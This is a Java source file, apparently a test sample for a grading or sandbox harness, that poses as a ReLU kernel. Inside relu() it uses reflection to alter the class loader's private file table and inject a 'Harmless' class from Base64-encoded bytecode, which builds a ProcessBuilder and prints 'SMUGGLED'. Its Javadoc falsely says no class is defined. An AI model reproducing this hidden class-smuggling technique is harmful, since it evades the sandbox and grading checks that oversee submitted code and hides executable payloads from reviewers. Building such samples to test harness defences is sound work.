import assay.kernels.Relu;
import assay.kernels.Tensor;
import java.lang.reflect.Constructor;
import java.lang.reflect.Field;
import java.util.Base64;
import java.util.HashMap;
import java.util.Map;

/** By the loader's own table: nothing is looked up by its name, and no class is defined by this code. */
public class Attack implements Relu {
    @Override
    public Tensor relu(Tensor input) {
        try {
            ClassLoader loader = Attack.class.getClassLoader();
            Field files = loader.getClass().getDeclaredField("files");
            files.setAccessible(true);
            Map<Object, Object> all = new HashMap<>((Map<?, ?>) files.get(loader));
            Constructor<?> file = all.values().iterator().next().getClass().getDeclaredConstructors()[0];
            all.put("Harmless", file.newInstance("Harmless", Base64.getDecoder().decode(BYTES)));
            files.set(loader, all);
        } catch (ReflectiveOperationException | RuntimeException e) {
            System.out.println(e);
        }
        new Harmless().run();
        Tensor output = input.copy();
        for (int i = 0; i < output.size(); i++) output.data()[i] = Math.max(0, output.data()[i]);
        return output;
    }

    /** Of another class of that name, which makes a ProcessBuilder. */
    private static final String BYTES = "yv66vgAAAEUANgoAAgADBwAEDAAFAAYBABBqYXZhL2xhbmcvT2JqZWN0AQAGPGluaXQ+AQADKClWCQAIAAkHAAoMAAsADAEAEGphdmEvbGFuZy9TeXN0ZW0BAANvdXQBABVMamF2YS9pby9QcmludFN0cmVhbTsHAA4BABdqYXZhL2xhbmcvU3RyaW5nQnVpbGRlcgoADQADCAARAQAJU01VR0dMRUQgCgANABMMABQAFQEABmFwcGVuZAEALShMamF2YS9sYW5nL1N0cmluZzspTGphdmEvbGFuZy9TdHJpbmdCdWlsZGVyOwcAFwEAGGphdmEvbGFuZy9Qcm9jZXNzQnVpbGRlcgcAGQEAEGphdmEvbGFuZy9TdHJpbmcIABsBAAF4CgAWAB0MAAUAHgEAFihbTGphdmEvbGFuZy9TdHJpbmc7KVYKABYAIAwAIQAiAQAHY29tbWFuZAEAEigpTGphdmEvdXRpbC9MaXN0OwoADQAkDAAUACUBAC0oTGphdmEvbGFuZy9PYmplY3Q7KUxqYXZhL2xhbmcvU3RyaW5nQnVpbGRlcjsKAA0AJwwAKAApAQAIdG9TdHJpbmcBABQoKUxqYXZhL2xhbmcvU3RyaW5nOwoAKwAsBwAtDAAuAC8BABNqYXZhL2lvL1ByaW50U3RyZWFtAQAHcHJpbnRsbgEAFShMamF2YS9sYW5nL1N0cmluZzspVgcAMQEACEhhcm1sZXNzBwAzAQASamF2YS9sYW5nL1J1bm5hYmxlAQAEQ29kZQEAA3J1bgAgADAAAgABADIAAAACAAAABQAGAAEANAAAABEAAQABAAAABSq3AAGxAAAAAAABADUABgABADQAAAA4AAgAAQAAACyyAAe7AA1ZtwAPEhC2ABK7ABZZBL0AGFkDEhpTtwActgAftgAjtgAmtgAqsQAAAAAAAA==";
}

class Harmless implements Runnable {
    @Override
    public void run() {
        System.out.println("as handed in");
    }
}
